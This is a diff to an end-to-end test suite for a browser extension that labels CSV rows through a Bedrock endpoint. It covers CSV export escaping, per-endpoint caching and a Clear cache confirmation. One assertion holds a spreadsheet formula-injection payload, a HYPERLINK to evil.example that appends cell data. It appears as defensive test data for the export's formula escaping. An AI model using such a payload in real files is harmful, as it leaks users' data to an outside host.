@@ -9,6 +9,7 @@ import { launchWithExtension } from "../lib/chromium.mjs";
 import { startEmulator } from "../emulator/emulator.mjs";
 import { LONG_LIVED } from "../emulator/test-credentials.mjs";
 import { loadLabeler } from "../lib/load-wasm.mjs";
+import { newProject, setField, fillKeys, answer, readStore } from "../lib/workspace-driver.mjs";
 
 const OUT = new URL("../out/", import.meta.url).pathname;
 mkdirSync(OUT, { recursive: true });
@@ -39,12 +40,6 @@ before(async () => {
   await page.setViewportSize({ width: 1280, height: 900 });
   await page.goto(browser.popupUrl.replace("popup.html", "workspace.html"));
   await page.waitForSelector("#version:not(:empty)");
-  await page.fill("#access-key-id", LONG_LIVED.accessKeyId);
-  await page.fill("#secret-access-key", LONG_LIVED.secretAccessKey);
-  await page.fill("#labels", LABELS.join("\n"));
-  await page.click("details.advanced summary");
-  await page.fill("#batch-size", "2");
-  for (const id of ["#labels", "#batch-size"]) await page.dispatchEvent(id, "change");
 });
 
 after(async () => {
@@ -53,27 +48,15 @@ after(async () => {
 });
 
 const stat = async (id) => Number((await page.textContent(`#stat-${id}`)).replace(/[^\d]/g, ""));
-const cacheCount = () =>
-  page.evaluate(
-    () =>
-      new Promise((resolve, reject) => {
-        const open = indexedDB.open("bedrock-labeler-workspace");
-        open.onerror = () => reject(open.error);
-        open.onsuccess = () => {
-          const req = open.result.transaction("cache").objectStore("cache").count();
-          req.onsuccess = () => resolve(req.result);
-          req.onerror = () => reject(req.error);
-        };
-      }),
-  );
+const cacheCount = async () => (await readStore(page, "cache")).length;
 
-/** Loads the file afresh and labels it against `endpoint`; resolves when the run is done. */
+/** A new project of the file, labelled against `endpoint`; resolves when the run is done. */
 async function run(endpoint) {
-  await page.fill("#endpoint", endpoint);
-  await page.dispatchEvent("#endpoint", "change");
-  await page.evaluate(() => (document.getElementById("file").value = "")); // the same file again still loads
-  await page.setInputFiles("#file", CSV_PATH);
-  await page.waitForFunction(() => document.getElementById("run-status").textContent === "");
+  await newProject(page, CSV_PATH);
+  await fillKeys(page, LONG_LIVED);
+  await setField(page, "#labels", LABELS.join("\n"));
+  await setField(page, "#batch-size", 2);
+  await setField(page, "#endpoint", endpoint);
   await page.click("#predict");
   await page.waitForFunction(() => document.getElementById("run-status").textContent.startsWith("Done"), null, { timeout: 30_000 });
   assert.equal(await page.isHidden("#error"), true, await page.textContent("#error"));
@@ -83,12 +66,13 @@ test("CSV export: every cell that starts a formula is prefixed with ' and quoted
   await run(emuA.url);
   assert.equal(await stat("done"), N);
 
+  await page.click("#tab-review");
   const [csv] = await Promise.all([page.waitForEvent("download"), page.click("#export-csv")]);
   const text = readFileSync(await csv.path(), "utf8");
   assert.ok(text.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""positive"")"`), text);
   assert.ok(text.includes(`"'=1+2"`), "an input column that is not the text column");
   const table = labeler.parseDataset(Buffer.from(text), "x.csv");
-  assert.deepEqual(table.columns, ["text", "note", "labels", "spans", "status", "error", "cached"]);
+  assert.deepEqual(table.columns.slice(0, 4), ["text", "note", "model_labels", "final_labels"]);
   table.rows.forEach((row, i) => {
     const starts = /^[=+\-@\t\r]/.test(TEXTS[i]);
     assert.equal(row[0], starts ? `'${TEXTS[i]}` : TEXTS[i], `row ${i}`);
@@ -100,8 +84,8 @@ test("CSV export: every cell that starts a formula is prefixed with ' and quoted
   const [jsonl] = await Promise.all([page.waitForEvent("download"), page.click("#export-jsonl")]);
   const lines = readFileSync(await jsonl.path(), "utf8").trim().split("\n").map((l) => JSON.parse(l));
   assert.deepEqual(lines.map((o) => o.text), TEXTS);
-  assert.deepEqual(lines[2].labels, ["=neutral"]);
-  const shown = await page.$$eval("#results-table tbody tr", (trs) => trs.map((tr) => tr.children[1].textContent));
+  assert.deepEqual(lines[2].model_labels, ["=neutral"]);
+  const shown = await page.$$eval("#results-table tbody tr.item", (trs) => trs.map((tr) => tr.children[1].textContent));
   assert.deepEqual(shown, TEXTS, "the page shows the text as it is");
 });
 
@@ -117,31 +101,25 @@ test("the cache answers the same endpoint again, but never another endpoint", as
   assert.equal(await cacheCount(), 2 * N, "one answer per row and endpoint");
 });
 
-/** Clicks Clear cache, answering its confirmation with `answer`; returns { asked, info }. */
-async function clickClearCache(answer) {
-  let asked = null;
-  const onDialog = (d) => {
-    asked = d.message();
-    return answer === "accept" ? d.accept() : d.dismiss();
-  };
-  page.on("dialog", onDialog);
-  try {
-    await page.evaluate(() => (document.getElementById("cache-info").textContent = ""));
-    await page.click("#clear-cache");
-    await page.waitForFunction(() => document.getElementById("cache-info").textContent !== "");
-  } finally {
-    page.off("dialog", onDialog);
-  }
+/** Clicks Clear cache, answering its question with `answer` ("clear" | "keep"); returns { asked, info }. */
+async function clickClearCache(choice) {
+  await page.click("#tab-setup");
+  await page.evaluate(() => (document.getElementById("cache-info").textContent = ""));
+  await page.click("#clear-cache");
+  const dialog = await page.waitForSelector("dialog#ask[open]", { timeout: 2000 }).catch(() => null);
+  const asked = dialog ? await page.textContent("#ask-text") : null;
+  if (dialog) await answer(page, choice);
+  await page.waitForFunction(() => document.getElementById("cache-info").textContent !== "");
   return { asked, info: await page.textContent("#cache-info") };
 }
 
 test("Clear cache asks first, says how many answers were removed, and the next run asks Bedrock again", async () => {
-  const dismissed = await clickClearCache("dismiss");
+  const dismissed = await clickClearCache("keep");
   assert.match(dismissed.asked, new RegExp(`^Remove ${2 * N} cached answers\\?`));
   assert.equal(dismissed.info, "Nothing was removed.");
   assert.equal(await cacheCount(), 2 * N);
 
-  const accepted = await clickClearCache("accept");
+  const accepted = await clickClearCache("clear");
   assert.match(accepted.asked, new RegExp(`^Remove ${2 * N} cached answers\\?`));
   assert.equal(accepted.info, `Removed ${2 * N} cached answers.`);
   assert.equal(await cacheCount(), 0);
@@ -150,9 +128,9 @@ test("Clear cache asks first, says how many answers were removed, and the next r
   await run(emuB.url);
   assert.equal(await stat("cached"), 0);
   assert.ok(emuB.stats.invocations.length > sentToB, "asked again after clearing");
-  assert.equal((await clickClearCache("accept")).info, `Removed ${N} cached answers.`);
+  assert.equal((await clickClearCache("clear")).info, `Removed ${N} cached answers.`);
 
-  const empty = await clickClearCache("accept");
+  const empty = await clickClearCache("clear");
   assert.equal(empty.asked, null, "nothing to remove: no question");
   assert.equal(empty.info, "The cache is empty.");
 });
